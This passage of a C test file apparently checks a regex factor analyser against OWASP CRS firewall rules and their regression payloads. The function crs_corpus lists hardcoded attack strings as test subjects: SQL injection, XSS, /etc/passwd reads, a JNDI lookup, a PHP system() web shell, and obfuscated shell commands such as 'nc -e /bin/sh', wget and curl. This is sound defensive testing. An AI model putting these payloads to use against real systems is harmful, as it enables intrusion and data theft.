    n->kid = realloc(n->kid, (size_t)(n->nkid + 1) * sizeof(*n->kid));
    assert_non_null(n->kid);
    n->kid[n->nkid++] = kid;
}

static void node_free(node_t *n)
{
    if (!n)
        return;
    for (int i = 0; i < n->nkid; i++)
        node_free(n->kid[i]);
    free(n->kid);
    free(n);
}

static void set_add(uint64_t *s, unsigned c)
{
    s[c >> 6] |= (uint64_t)1 << (c & 63);
}

static bool set_has(const uint64_t *s, unsigned c)
{
    return (s[c >> 6] >> (c & 63)) & 1;
}

/* with the bytes the deletion sets hold, so that N has work to do */
static const char ALPHA[] = "abcAB-._ \n'\"\\^";

/* One random construct; appends its text to b. */
static node_t *rand_node(buf_t *b, int depth)
{
    unsigned r = rnd(depth > 3 ? 10 : 22);
    node_t *n;
    if (r < 5) { /* a literal, sometimes escaped */
        n = node_new(N_CHAR);
        n->c = (unsigned char)ALPHA[rnd(sizeof(ALPHA) - 1)];
        char t[16];
        unsigned how = rnd(12);
        if (how == 0)
            snprintf(t, sizeof(t), "\\Q%c\\E", n->c);
        else if (how == 1)
            snprintf(t, sizeof(t), "\\0%o", n->c);
        else if (n->c == '.' || how < 4)
            snprintf(t, sizeof(t), how == 2 ? "\\x%02x" : "\\x{%x}", n->c);
        else if (n->c == '\n')
            snprintf(t, sizeof(t), "\\n");
        else if (n->c == '\\' || n->c == '^' || (n->c == '"' && how < 6))
            snprintf(t, sizeof(t), "\\%c", n->c);
        else
            snprintf(t, sizeof(t), "%c", n->c);
        buf_s(b, t);
        return n;
    }
    if (r < 8) { /* a class */
        n = node_new(N_SET);
        bool neg = rnd(4) == 0;
        buf_s(b, neg ? "[^" : "[");
        uint64_t in[4] = {0};
        int k = 1 + (int)rnd(3);
        for (int i = 0; i < k; i++) {
            switch (rnd(5)) {
            case 0:
                buf_s(b, "a-c");
                for (unsigned c = 'a'; c <= 'c'; c++)
                    set_add(in, c);
                break;
            case 1:
                buf_s(b, "\\d");
                for (unsigned c = '0'; c <= '9'; c++)
                    set_add(in, c);
                break;
            default: {
                static const char *const text[] = {"a", "b", "A",  "B",    "_",
                                                   ".", "'", "\"", "\\\\", "\\^"};
                static const char bytes[] = "abAB_.'\"\\^";
                unsigned j = rnd(10);
                buf_s(b, text[j]);
                set_add(in, (unsigned char)bytes[j]);
            }
            }
        }
        buf_s(b, "]");
        for (unsigned c = 0; c < 128; c++)
            if (set_has(in, c) != neg)
                set_add(n->set, c);
        return n;
    }
    if (r < 9) {
        n = node_new(N_EMPTY);
        /* zero-width, or nothing we know of: option settings, comments,
         * a backreference (refused by PCRE2 when there is no group 1) */
        static const char *zw[] = {"^",      "$",       "\\b",    "\\B",   "(?=a)", "(?!b)",
                                   "(?<=a)", "\\K",     "(?i)",   "(?-i)", "(?#c)", "\\1",
                                   "(?1)",   "\\g{-1}", "\\Q\\E", "\\E"};
        buf_s(b, zw[rnd(16)]);
        return n;
    }
    if (r < 10) {
        n = node_new(N_SET);
        static const char *esc[] = {"\\d", "\\w", "\\s", "\\h", "."};
        unsigned e = rnd(5);
        buf_s(b, esc[e]);
        for (unsigned c = 0; c < 128; c++) {
            bool in = e == 0   ? c >= '0' && c <= '9'
                      : e == 1 ? isalnum((int)c) || c == '_'
                      : e == 2 ? (c >= 9 && c <= 13) || c == ' '
                      : e == 3 ? c == 9 || c == ' '
                               : c >= 32;
            if (in)
                set_add(n->set, c);
        }
        return n;
    }
    if (r < 14) { /* concatenation in a group */
        static const char *open[] = {"(", "(?:", "(?>", "(?i:", "(?|"};
        n = node_new(N_CAT);
        buf_s(b, open[rnd(5)]);
        int k = 2 + (int)rnd(3);
        for (int i = 0; i < k; i++)
            node_add(n, rand_node(b, depth + 1));
        buf_s(b, ")");
        return n;
    }
    if (r < 18) {
        n = node_new(N_ALT);
        buf_s(b, rnd(2) ? "(?:" : "(");
        int k = 2 + (int)rnd(3);
        for (int i = 0; i < k; i++) {
            if (i)
                buf_s(b, "|");
            if (rnd(10) == 0)
                node_add(n, node_new(N_EMPTY)); /* an empty branch */
            else
                node_add(n, rand_node(b, depth + 1));
        }
        buf_s(b, ")");
        return n;
    }
    /* a repetition of a group */
    n = node_new(N_REP);
    buf_s(b, "(?:");
    node_add(n, rand_node(b, depth + 1));
    buf_s(b, ")");
    static const struct {
        const char *q;
        unsigned min, max;
    } qs[] = {{"*", 0, 0xffff}, {"+", 1, 0xffff}, {"?", 0, 1},         {"{2}", 2, 2},
              {"{0}", 0, 0},    {"{1,3}", 1, 3},  {"{2,}", 2, 0xffff}, {"{0,2}", 0, 2}};
    unsigned k = rnd(8);
    buf_s(b, qs[k].q);
    if (rnd(4) == 0)
        buf_s(b, rnd(2) ? "?" : "+");
    n->min = qs[k].min;
    n->max = qs[k].max;
    return n;
}

static void sample(const node_t *n, buf_t *out)
{
    switch (n->kind) {
    case N_CHAR:
        buf_c(out, n->c);
        break;
    case N_SET: {
        unsigned c, tries = 0;
        do
            c = rnd(128);
        while (!set_has(n->set, c) && ++tries < 1000);
        if (set_has(n->set, c))
            buf_c(out, (int)c);
        break;
    }
    case N_CAT:
        for (int i = 0; i < n->nkid; i++)
            sample(n->kid[i], out);
        break;
    case N_ALT:
        sample(n->kid[rnd((uint32_t)n->nkid)], out);
        break;
    case N_REP: {
        unsigned k = n->min + rnd(3);
        if (k > n->max)
            k = n->max;
        for (unsigned i = 0; i < k && out->n < 4096; i++)
            sample(n->kid[0], out);
        break;
    }
    case N_EMPTY:
        break;
    }
}

static void flip_case(buf_t *b)
{
    for (size_t i = 0; i < b->n; i++)
        if (isalpha((unsigned char)b->p[i]) && rnd(3) == 0)
            b->p[i] ^= 32;
}

/* The factors of one pattern: plain (del NULL) or under deletion. */
typedef struct {
    const char *del;
    const char *name;
} variant_t;

static const variant_t variants[] = {
    {NULL, "plain"}, {DEL1, "without \\'\""}, {DEL2, "without \\'\"^"}, {DEL3, "without \\'\"^)["}};
#define NVARIANTS (sizeof(variants) / sizeof(variants[0]))
#define NRANDOM   3 /* the random grammar has no ')' or '[' literals: DEL3 would repeat DEL2 */

static int variant_factors(const variant_t *v, const char *re, size_t len, rp_factors_t *f)
{
    if (!v->del)
        return rp_rx_factors(re, len, f);
    int rc = rp_rx_factors_deleting(re, len, v->del, strlen(v->del), f);
    if (rc == 0 && factor_has_deleted(f, v->del)) {
        print_message("a factor holds a deleted byte: %s\n", re);
        fail();
    }
    return rc;
}

static void test_random(void **state)
{
    (void)state;
    tally_t t[NRANDOM] = {{0}};
    size_t patterns = 0, with[NRANDOM] = {0};
    double t0 = now_s();
    buf_t re = {0}, s = {0};
    /* $RP_RXF_SEED and $RP_RXF_PATTERNS: longer runs by hand */
    const char *seed = getenv("RP_RXF_SEED"), *npat = getenv("RP_RXF_PATTERNS");
    if (seed)
        rng_state = strtoull(seed, NULL, 0) | 1;
    int rounds = npat ? atoi(npat) : 6000;
    for (int i = 0; i < rounds; i++) {
        re.n = 0;
        if (rnd(4) == 0)
            buf_s(&re, "(?i)");
        node_t *root = node_new(N_CAT);
        int nk = 1 + (int)rnd(4);
        for (int k = 0; k < nk; k++)
            node_add(root, rand_node(&re, 0));
        rx_t rx;
        if (!rx_compile(&rx, re.p, re.n, false)) {
            node_free(root);
            continue;
        }
        patterns++;
        rp_factors_t f[NRANDOM];
        finder_t fd[NRANDOM];
        bool have[NRANDOM], any = false;
        for (size_t v = 0; v < NRANDOM; v++) {
            have[v] = variant_factors(&variants[v], re.p, re.n, &f[v]) == 0;
            if (have[v]) {
                with[v]++;
                finder_init(&fd[v], &f[v]);
            }
            any |= have[v];
        }
        for (int k = 0; k < 60 && any; k++) {
            s.n = 0;
            if (k >= 40) { /* noise */
                int len = (int)rnd(12);
                for (int j = 0; j < len; j++)
                    buf_c(&s, ALPHA[rnd(sizeof(ALPHA) - 1)]);
            } else {
                if (k % 4 == 3)
                    buf_c(&s, ALPHA[rnd(sizeof(ALPHA) - 1)]);
                sample(root, &s);
                if (k % 2)
                    flip_case(&s);
                if (k % 5 == 4 && s.n) { /* an evasion byte inside */
                    size_t at = rnd((uint32_t)s.n + 1);
                    buf_c(&s, 0);
                    memmove(s.p + at + 1, s.p + at, s.n - 1 - at);
                    s.p[at] = "'\"\\^"[rnd(4)];
                }
            }
            for (size_t v = 0; v < NRANDOM; v++) {
                if (!have[v])
                    continue;
                if (variants[v].del)
                    check_subject_del(&rx, re.p, &fd[v], variants[v].del, s.p ? s.p : "", s.n,
                                      &t[v]);
                else
                    check_subject(&rx, re.p, &fd[v], s.p ? s.p : "", s.n, &t[v]);
            }
        }
        for (size_t v = 0; v < NRANDOM; v++) {
            if (have[v])
                finder_free(&fd[v]);
            rp_factors_free(&f[v]);
        }
        rx_free(&rx);
        node_free(root);
    }
    free(re.p);
    free(s.p);
    for (size_t v = 0; v < NRANDOM; v++) {
        print_message("random patterns, %s: %zu compiled, %zu with factors; %zu subjects, %zu "
                      "matches, %zu defused near misses, %zu limits, %zu violations\n",
                      variants[v].name, patterns, with[v], t[v].subjects, t[v].matches,
                      t[v].defused, t[v].limits, t[v].violations);
        assert_true(with[v] > patterns / 3);
        assert_true(t[v].matches > 10000);
        assert_int_equal(t[v].violations, 0);
    }
    print_message("random patterns: %.2f s\n", now_s() - t0);
}

/* ------------------------------------------------------------------ CRS */

static char *crs_path(const char *rel)
{
    const char *root = getenv("RP_SOURCE_DIR");
    if (!root)
        root = RP_SOURCE_DIR;
    size_t n = strlen(root) + strlen(rel) + 2;
    char *p = malloc(n);
    assert_non_null(p);
    snprintf(p, n, "%s/%s", root, rel);
    return p;
}

typedef struct {
    char *re;
    char where[128];
    char id[16]; /* the rule id (of the chain's head) */
} pat_t;

typedef struct {
    pat_t *v;
    size_t n, cap;
} pats_t;

static void pats_add(pats_t *ps, const sl_item_t *it, const sl_item_t *head)
{
    if (ps->n == ps->cap) {
        ps->cap = ps->cap ? 2 * ps->cap : 256;
        ps->v = realloc(ps->v, ps->cap * sizeof(*ps->v));
        assert_non_null(ps->v);
    }
    pat_t *p = &ps->v[ps->n++];
    p->re = strdup(it->op_param);
    const char *slash = strrchr(it->file, '/');
    snprintf(p->where, sizeof(p->where), "%s:%u", slash ? slash + 1 : it->file, it->line);
    const sl_action_t *id = sl_action_find(head, "id");
    snprintf(p->id, sizeof(p->id), "%s", id && id->value ? id->value : "");
}

/* Every static @rx pattern of the CRS rule files, chained rules included,
 * through the SecLang parser (all files at once: skipAfter markers cross
 * files). */
static void load_crs(pats_t *ps)
{
    char *dir = crs_path("third_party/owasp-crs/rules");
    char text[4200];
    snprintf(text, sizeof(text), "Include %s/*.conf\n", dir);
    rp_error_t err;
    sl_config_t *c = sl_parse_string(text, strlen(text), "rx_factors_test", dir, &err);
    if (!c)
        print_message("%s:%u: %s\n", err.file, err.line, err.reason);
    assert_non_null(c);
    for (const sl_item_t *it = c->first; it; it = it->next)
        for (const sl_item_t *r = it; r; r = r->chained)
            if (r->kind == SL_RULE && r->op_name && strcasecmp(r->op_name, "rx") == 0 &&
                r->op_param && !strstr(r->op_param, "%{"))
                pats_add(ps, r, it);
    sl_config_free(c);
    free(dir);
}

/* The corpus: a set of byte strings. */
typedef struct {
    char **s;
    size_t *len;
    size_t n, cap;
    size_t *slot; /* open addressing: index + 1, 0 empty */
    size_t nslot;
} corpus_t;

static uint64_t hash(const char *s, size_t n)
{
    uint64_t h = 1469598103934665603ull;
    for (size_t i = 0; i < n; i++)
        h = (h ^ (unsigned char)s[i]) * 1099511628211ull;
    return h;
}

static void corpus_add(corpus_t *c, const char *s, size_t n)
{
    if (n == 0 || n > 4096)
        return;
    if (2 * (c->n + 1) > c->nslot) {
        size_t ns = c->nslot ? 2 * c->nslot : 1 << 16;
        free(c->slot);
        c->slot = calloc(ns, sizeof(*c->slot));
        assert_non_null(c->slot);
        c->nslot = ns;
        for (size_t i = 0; i < c->n; i++) {
            size_t h = hash(c->s[i], c->len[i]) & (ns - 1);
            while (c->slot[h])
                h = (h + 1) & (ns - 1);
            c->slot[h] = i + 1;
        }
    }
    size_t h = hash(s, n) & (c->nslot - 1);
    for (; c->slot[h]; h = (h + 1) & (c->nslot - 1)) {
        size_t i = c->slot[h] - 1;
        if (c->len[i] == n && memcmp(c->s[i], s, n) == 0)
            return;
    }
    if (c->n == c->cap) {
        c->cap = c->cap ? 2 * c->cap : 4096;
        c->s = realloc(c->s, c->cap * sizeof(*c->s));
        c->len = realloc(c->len, c->cap * sizeof(*c->len));
        assert_true(c->s && c->len);
    }
    c->s[c->n] = malloc(n + 1);
    assert_non_null(c->s[c->n]);
    memcpy(c->s[c->n], s, n);
    c->s[c->n][n] = '\0';
    c->len[c->n] = n;
    c->slot[h] = ++c->n;
}

static void corpus_free(corpus_t *c)
{
    for (size_t i = 0; i < c->n; i++)
        free(c->s[i]);
    free(c->s);
    free(c->len);
    free(c->slot);
}

static int hexv(int c)
{
    return isdigit(c) ? c - '0' : isxdigit(c) ? (tolower(c) - 'a' + 10) : -1;
}

/* %XX, %uXXXX (low byte) and '+' decoded, like ARGS after urlDecodeUni. */
static size_t url_decode(const char *s, size_t n, char *out)
{
    size_t o = 0;
    for (size_t i = 0; i < n; i++) {
        if (s[i] == '%' && i + 2 < n && hexv(s[i + 1]) >= 0 && hexv(s[i + 2]) >= 0) {
            out[o++] = (char)(hexv(s[i + 1]) * 16 + hexv(s[i + 2]));
            i += 2;
        } else if (s[i] == '%' && i + 5 < n && (s[i + 1] | 32) == 'u' && hexv(s[i + 4]) >= 0 &&
                   hexv(s[i + 5]) >= 0) {
            out[o++] = (char)(hexv(s[i + 4]) * 16 + hexv(s[i + 5]));
            i += 5;
        } else {
            out[o++] = s[i] == '+' ? ' ' : s[i];
        }
    }
    return o;
}

/* A value as the rules may see it: raw, decoded once and twice, lower
 * case, and split into name=value pieces at '&' and ';'. */
static void corpus_value(corpus_t *c, const char *s, size_t n)
{
    if (n == 0 || n > 4096)
        return;
    char *d1 = malloc(n + 1), *d2 = malloc(n + 1), *lc = malloc(n + 1);
    assert_true(d1 && d2 && lc);
    size_t n1 = url_decode(s, n, d1), n2 = url_decode(d1, n1, d2);
    const char *vs[] = {s, d1, d2};
    size_t ns[] = {n, n1, n2};
    for (int k = 0; k < 3; k++) {
        corpus_add(c, vs[k], ns[k]);
        for (size_t i = 0; i < ns[k]; i++)
            lc[i] = (char)tolower((unsigned char)vs[k][i]);
        corpus_add(c, lc, ns[k]);
    }
    /* pieces of the raw form, decoded */
    for (size_t a = 0; a < n;) {
        size_t b = a;
        while (b < n && s[b] != '&' && s[b] != ';')
            b++;
        const char *eq = memchr(s + a, '=', b - a);
        size_t m = url_decode(s + a, b - a, d1);
        corpus_add(c, d1, m);
        if (eq) {
            m = url_decode(eq + 1, (size_t)(s + b - eq - 1), d1);
            corpus_add(c, d1, m);
            m = url_decode(s + a, (size_t)(eq - s - a), d1);
            corpus_add(c, d1, m);
        }
        a = b + 1;
    }
    free(d1);
    free(d2);
    free(lc);
}

/* A double-quoted YAML scalar: the usual escapes. */
static size_t yaml_dq(const char *s, size_t n, char *out, size_t *used)
{
    size_t o = 0, i = 1;
    for (; i < n && s[i] != '"'; i++) {
        if (s[i] != '\\' || i + 1 >= n) {
            out[o++] = s[i];
            continue;
        }
        char e = s[++i];
        switch (e) {
        case 'n':
            out[o++] = '\n';
            break;
        case 'r':
            out[o++] = '\r';
            break;
        case 't':
            out[o++] = '\t';
            break;
        case '0':
            out[o++] = '\0';
            break;
        case 'x':
            if (i + 2 < n && hexv(s[i + 1]) >= 0 && hexv(s[i + 2]) >= 0) {
                out[o++] = (char)(hexv(s[i + 1]) * 16 + hexv(s[i + 2]));
                i += 2;
            }
            break;
        default:
            out[o++] = e;
            break;
        }
    }
    *used = i;
    return o;
}

/* Every scalar of a go-ftw YAML file: values after "key:" and "- ",
 * quoted or plain, and block scalars ("data: |") line by line and whole. */
static void corpus_yaml(corpus_t *c, const char *path)
{
    FILE *fp = fopen(path, "rb");
    if (!fp)
        return;
    fseek(fp, 0, SEEK_END);
    long sz = ftell(fp);
    fseek(fp, 0, SEEK_SET);
    char *text = malloc((size_t)sz + 1);
    assert_non_null(text);
    size_t got = fread(text, 1, (size_t)sz, fp);
    fclose(fp);
    text[got] = '\0';
    char *tmp = malloc(got + 1);
    assert_non_null(tmp);
    buf_t block = {0};
    const char *p = text, *end = text + got;
    while (p < end) {
        const char *eol = memchr(p, '\n', (size_t)(end - p));
        if (!eol)
            eol = end;
        const char *q = p;
        while (q < eol && *q == ' ')
            q++;
        size_t indent = (size_t)(q - p);
        const char *v = NULL;
        if (q + 1 < eol && q[0] == '-' && q[1] == ' ') {
            v = q + 2;
        } else {
            const char *colon = memchr(q, ':', (size_t)(eol - q));
            if (colon && colon + 1 < eol && colon[1] == ' ')
                v = colon + 2;
        }
        p = eol + 1;
        if (!v)
            continue;
        while (v < eol && *v == ' ')
            v++;
        size_t vl = (size_t)(eol - v);
        if (vl && (*v == '|' || *v == '>')) {
            block.n = 0;
            while (p < end) {
                const char *e2 = memchr(p, '\n', (size_t)(end - p));
                if (!e2)
                    e2 = end;
                const char *r = p;
                while (r < e2 && *r == ' ')
                    r++;
                if (r < e2 && (size_t)(r - p) <= indent)
                    break;
                corpus_value(c, r, (size_t)(e2 - r));
                buf_put(&block, r, (size_t)(e2 - r));
                buf_c(&block, *v == '|' ? '\n' : ' ');
                p = e2 + 1;
            }
            if (block.n)
                corpus_value(c, block.p, block.n - 1);
        } else if (vl && *v == '"') {
            size_t used;
            size_t n = yaml_dq(v, vl, tmp, &used);
            corpus_value(c, tmp, n);
        } else if (vl && *v == '\'') {
            size_t n = 0;
            for (size_t i = 1; i < vl; i++) {
                if (v[i] == '\'' && i + 1 < vl && v[i + 1] == '\'')
                    tmp[n++] = v[i++];
                else if (v[i] == '\'')
                    break;
                else
                    tmp[n++] = v[i];
            }
            corpus_value(c, tmp, n);
        } else {
            corpus_value(c, v, vl);
        }
    }
    free(block.p);
    free(tmp);
    free(text);
}

static void corpus_dir(corpus_t *c, const char *dir, int depth)
{
    DIR *d = opendir(dir);
    if (!d || depth > 4) {
        if (d)
            closedir(d);
        return;
    }
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
        if (e->d_name[0] == '.')
            continue;
        char path[4096];
        snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
        size_t l = strlen(e->d_name);
        if (l > 5 && strcmp(e->d_name + l - 5, ".yaml") == 0)
            corpus_yaml(c, path);
        else
            corpus_dir(c, path, depth + 1);
    }
    closedir(d);
}

/* ---- sampling strings from a CRS pattern ----
 * A lenient reader of its own (not the analyser's): it only has to be good
 * enough to produce strings PCRE2 often matches; PCRE2 has the last word. */

typedef struct {
    const char *p, *end;
    bool caseless;
} gp_t;

static node_t *gp_alt(gp_t *g, int depth);

static void gp_skip_group(gp_t *g)
{
    int level = 1;
    while (g->p < g->end && level) {
        if (*g->p == '\\' && g->p + 1 < g->end)
            g->p++;
        else if (*g->p == '(')
            level++;
        else if (*g->p == ')')
            level--;
        g->p++;
    }
}

static void set_printable(uint64_t *s)
{
    for (unsigned c = 32; c < 127; c++)
        set_add(s, c);
}

static bool gp_escape_set(unsigned e, uint64_t *s)
{
    for (unsigned c = 0; c < 256; c++) {
        bool in;
        switch (e | 32) {
        case 'd':
            in = isdigit((int)c) && c < 128;
            break;
        case 'w':
            in = c < 128 && (isalnum((int)c) || c == '_');
            break;
        case 's':
            in = (c >= 9 && c <= 13) || c == ' ';
            break;
        case 'h':
            in = c == 9 || c == ' ';
            break;
        case 'v':
            in = c >= 10 && c <= 13;
            break;
        default:
            return false;
        }
        if (in != (e >= 'A' && e <= 'Z') && c < 128)
            set_add(s, c);
    }
    return true;
}

/* One byte of an escape (after the backslash), or -1. */
static int gp_escape_char(gp_t *g)
{
    char e = *g->p++;
    switch (e) {
    case 'n':
        return '\n';
    case 'r':
        return '\r';
    case 't':
        return '\t';
    case 'f':
        return '\f';
    case 'e':
        return 0x1b;
    case 'a':
        return 7;
    case '0':
        return 0;
    case 'x': {
        int v = 0;
        if (g->p < g->end && *g->p == '{') {
            g->p++;
            while (g->p < g->end && *g->p != '}')
                v = v * 16 + hexv(*g->p++);
            g->p++;
            return v & 0xff;
        }
        for (int k = 0; k < 2 && g->p < g->end && hexv(*g->p) >= 0; k++)
            v = v * 16 + hexv(*g->p++);
        return v;
    }
    default:
        return isalnum((unsigned char)e) ? -1 : (unsigned char)e;
    }
}

static node_t *gp_class(gp_t *g)
{
    node_t *n = node_new(N_SET);
    uint64_t in[4] = {0};
    bool neg = g->p < g->end && *g->p == '^';
    g->p += neg;
    bool first = true;
    while (g->p < g->end && (*g->p != ']' || first)) {
        first = false;
        int lo;
        if (*g->p == '[' && g->p + 1 < g->end && g->p[1] == ':') {
            const char *close = strstr(g->p, ":]");
            bool alpha = strncmp(g->p + 2, "alpha", 5) == 0;
            for (unsigned c = 0; c < 128; c++)
                if (alpha ? isalpha((int)c) : isalnum((int)c))
                    set_add(in, c);
            g->p = close ? close + 2 : g->end;
            continue;
        }
        if (*g->p == '\\' && g->p + 1 < g->end) {
            g->p++;
            if (gp_escape_set((unsigned char)*g->p, in)) {
                g->p++;
                continue;
            }
            lo = gp_escape_char(g);
            if (lo < 0)
                continue;
        } else {
            lo = (unsigned char)*g->p++;
        }
        int hi = lo;
        if (g->p + 1 < g->end && *g->p == '-' && g->p[1] != ']') {
            g->p++;
            if (*g->p == '\\' && g->p + 1 < g->end) {
                g->p++;
                hi = gp_escape_char(g);
            } else {
                hi = (unsigned char)*g->p++;
            }
        }
        for (int c = lo; c <= hi && c < 256; c++)
            set_add(in, (unsigned)c);
    }
    g->p++;
    for (unsigned c = 0; c < 256; c++)
        if (set_has(in, c) != neg && (c < 127 || !neg))
            set_add(n->set, c);
    return n;
}

static node_t *gp_atom(gp_t *g, int depth)
{
    char c = *g->p++;
    node_t *n;
    if (c == '(') {
        if (g->p < g->end && *g->p == '?') {
            g->p++;
            if (g->p < g->end && strchr("=!#", *g->p)) {
                gp_skip_group(g);
                return node_new(N_EMPTY);
            }
            if (g->p + 1 < g->end && *g->p == '<' && strchr("=!", g->p[1])) {
                gp_skip_group(g);
                return node_new(N_EMPTY);
            }
            /* names and flags up to ':' or ')' */
            while (g->p < g->end && *g->p != ':' && *g->p != ')' && *g->p != '>' && *g->p != '|') {
                if (*g->p == 'i')
                    g->caseless = true;
                g->p++;
            }
            if (g->p < g->end && *g->p == ')') {
                g->p++;
                return node_new(N_EMPTY);
            }
            g->p++;
        }
        n = gp_alt(g, depth + 1);
        if (g->p < g->end)
            g->p++; /* ')' */
        return n;
    }
    if (c == '[')
        return gp_class(g);
    if (c == '.') {
        n = node_new(N_SET);
        set_printable(n->set);
        return n;
    }
    if (c == '^' || c == '$')
        return node_new(N_EMPTY);
    if (c == '\\' && g->p < g->end) {
        n = node_new(N_SET);
        unsigned e = (unsigned char)*g->p;
        if (gp_escape_set(e, n->set)) {
            g->p++;
            return n;
        }
        if (strchr("bBAzZGK", (int)e) || isdigit((int)e) || e == 'k' || e == 'g') {
            g->p++;
            while (g->p < g->end && (isalnum((unsigned char)*g->p) || strchr("{}<>'-", *g->p)))
                g->p++;
            free(n);
            return node_new(N_EMPTY);
        }
        if (e == 'p' || e == 'P' || e == 'R' || e == 'N' || e == 'X') {
            g->p++;
            if (g->p < g->end && *g->p == '{' && (e == 'p' || e == 'P'))
                while (g->p < g->end && *g->p++ != '}')
                    ;
            else if (e == 'p' || e == 'P')
                g->p++;
            set_printable(n->set);
            return n;
        }
        int v = gp_escape_char(g);
        free(n);
        if (v < 0)
            return node_new(N_EMPTY);
        n = node_new(N_CHAR);
        n->c = (unsigned char)v;
        return n;
    }
    n = node_new(N_CHAR);
    n->c = (unsigned char)c;
    return n;
}

static node_t *gp_seq(gp_t *g, int depth)
{
    node_t *seq = node_new(N_CAT);
    while (g->p < g->end && *g->p != '|' && *g->p != ')') {
        node_t *a = gp_atom(g, depth);
        unsigned min = 1, max = 1;
        if (g->p < g->end) {
            char q = *g->p;
            if (q == '*' || q == '+' || q == '?') {
                min = q == '+';
                max = q == '?' ? 1 : 0xffff;
                g->p++;
            } else if (q == '{' && g->p + 1 < g->end && isdigit((unsigned char)g->p[1])) {
                char *e;
                min = (unsigned)strtoul(g->p + 1, &e, 10);
                max = min;
                if (*e == ',')
                    max = isdigit((unsigned char)e[1]) ? (unsigned)strtoul(e + 1, &e, 10)
                                                       : (e++, 0xffff);
                if (*e == '}')
                    g->p = e + 1;
                else
                    min = max = 1;
            }
            if (g->p < g->end && (*g->p == '?' || *g->p == '+') && (min != 1 || max != 1))
                g->p++;
        }
        if (min != 1 || max != 1) {
            node_t *r = node_new(N_REP);
            node_add(r, a);
            r->min = min;
            r->max = max;
            a = r;
        }
        node_add(seq, a);
    }
    return seq;
}

static node_t *gp_alt(gp_t *g, int depth)
{
    node_t *alt = node_new(N_ALT);
    for (;;) {
        node_add(alt, depth > 200 ? node_new(N_EMPTY) : gp_seq(g, depth));
        if (g->p < g->end && *g->p == '|') {
            g->p++;
            continue;
        }
        return alt;
    }
}

/* The CRS regression payloads, decoded and split, and a few classics. */
static void crs_corpus(corpus_t *corpus)
{
    char *tests = crs_path("third_party/owasp-crs/tests/regression/tests");
    corpus_dir(corpus, tests, 0);
    free(tests);
    static const char *extra[] = {
        "1' or '1'='1",
        "<script>alert(1)</script>",
        "../../etc/passwd",
        ";cat /etc/passwd",
        "$(whoami)",
        "union all select null,null--",
        "${jndi:ldap://x/a}",
        "<?php system($_GET[c]); ?>",
        "eval(base64_decode('x'))",
        "java.lang.Runtime",
        "{{7*7}}",
        "`id`",
        "|| ping -c 1 x",
        "onerror=alert(1)",
        "/bin/sh -c id",
        "cmd.exe /c dir",
        "sleep(5)#",
        "0x41414141",
        "javascript:alert(1)",
        "x=1;drop table t",
        /* shell evasions: quotes and backslashes between letters */
        ";w'g\"e\\t http://x/a",
        "|c\\a\\t /e't'c/pa\"ss\"wd",
        ";l''s -la",
        "$(i\"d)",
        "&& n\"c -e /bin/s''h x 1",
        "; /bin/b'a's'h -c 'cu\\rl x'",
    };
    for (size_t i = 0; i < sizeof(extra) / sizeof(extra[0]); i++)
        corpus_value(corpus, extra[i], strlen(extra[i]));
    assert_true(corpus->n > 5000);
}

static void test_crs(void **state)
{
    (void)state;
    double t0 = now_s();
    pats_t ps = {0};
    load_crs(&ps);
    print_message("CRS v4: %zu static @rx patterns\n", ps.n);
    assert_true(ps.n > 250);

    corpus_t corpus = {0};
    crs_corpus(&corpus);
    print_message("corpus: %zu distinct subjects from the CRS regression tests (%.1f s)\n",
                  corpus.n, now_s() - t0);

    size_t with = 0, without = 0, bad = 0, hist[7] = {0}, nfactors = 0, maxf = 0;
    size_t sampled = 0, sampled_match = 0;
    tally_t t = {0};
    buf_t s = {0};
    double tcheck = now_s();
    for (size_t i = 0; i < ps.n; i++) {
        const char *re = ps.v[i].re;
        rp_factors_t f;
        if (rp_rx_factors(re, strlen(re), &f) != 0) {
            without++;
            continue;
        }
        with++;
        size_t minlen = SIZE_MAX;
        for (size_t k = 0; k < f.n; k++)
            minlen = f.len[k] < minlen ? f.len[k] : minlen;
        hist[minlen >= 6 ? 6 : minlen]++;
        nfactors += f.n;
        maxf = f.n > maxf ? f.n : maxf;
        rx_t rx;
        if (!rx_compile(&rx, re, strlen(re), true)) {
            print_message("%s: PCRE2 refuses the pattern\n", ps.v[i].where);
            bad++;
            rp_factors_free(&f);
            continue;
        }
        size_t before = t.violations;
        finder_t fd;
        finder_init(&fd, &f);
        for (size_t k = 0; k < corpus.n; k++)
            check_subject(&rx, re, &fd, corpus.s[k], corpus.len[k], &t);
        /* strings sampled from the pattern, alone and inside others */
        gp_t g = {re, re + strlen(re), false};
        node_t *root = gp_alt(&g, 0);
        for (int k = 0; k < 200; k++) {
            s.n = 0;
            if (k % 4 == 3)
                buf_s(&s, "x ");
            sample(root, &s);
            if (k % 2 && g.caseless)
                flip_case(&s);
            size_t m0 = t.matches;
            check_subject(&rx, re, &fd, s.p ? s.p : "", s.n, &t);
            sampled++;
            sampled_match += t.matches > m0;
        }
        node_free(root);
        finder_free(&fd);
        if (t.violations > before)
            print_message("  at %s\n", ps.v[i].where);
        rx_free(&rx);
        rp_factors_free(&f);
    }
    free(s.p);
    print_message("CRS v4 @rx: %zu analysed, %zu with factors (%.1f%%), %zu without; "
                  "%zu factors in all, at most %zu for one pattern\n",
                  ps.n, with, 100.0 * (double)with / (double)ps.n, without, nfactors, maxf);
    print_message("  shortest factor: 1 byte %zu, 2: %zu, 3: %zu, 4: %zu, 5: %zu, 6+: %zu\n",
                  hist[1], hist[2], hist[3], hist[4], hist[5], hist[6]);
    print_message("  checked %zu subjects (%zu sampled from the patterns, %zu of them matching): "
                  "%zu PCRE2 matches, %zu defused near misses, %zu limits, %zu violations "
                  "(%.1f s)\n",
                  t.subjects, sampled, sampled_match, t.matches, t.defused, t.limits, t.violations,
                  now_s() - tcheck);
    assert_int_equal(bad, 0);
    assert_int_equal(t.violations, 0);
    assert_true(with * 4 >= ps.n * 3); /* the large majority */
    assert_true(t.matches > 10000);
    for (size_t i = 0; i < ps.n; i++)
        free(ps.v[i].re);
    free(ps.v);
    corpus_free(&corpus);
}

/* The REQUEST-932 rules that write command words with fillers between
 * letters (l[\\'"]*s): single letters as plain factors. */
static const char *const rce_ids[] = {"932230", "932235", "932236", "932237", "932238",
                                      "932239", "932250", "932260", "932125", "932175",
                                      "932370", "932371", "932380", "932232"};

static bool is_rce_id(const char *id)
{
    for (size_t i = 0; i < sizeof(rce_ids) / sizeof(rce_ids[0]); i++)
        if (strcmp(id, rce_ids[i]) == 0)
            return true;
    return false;
}

static size_t min_factor(const rp_factors_t *f)
{
    size_t m = SIZE_MAX;
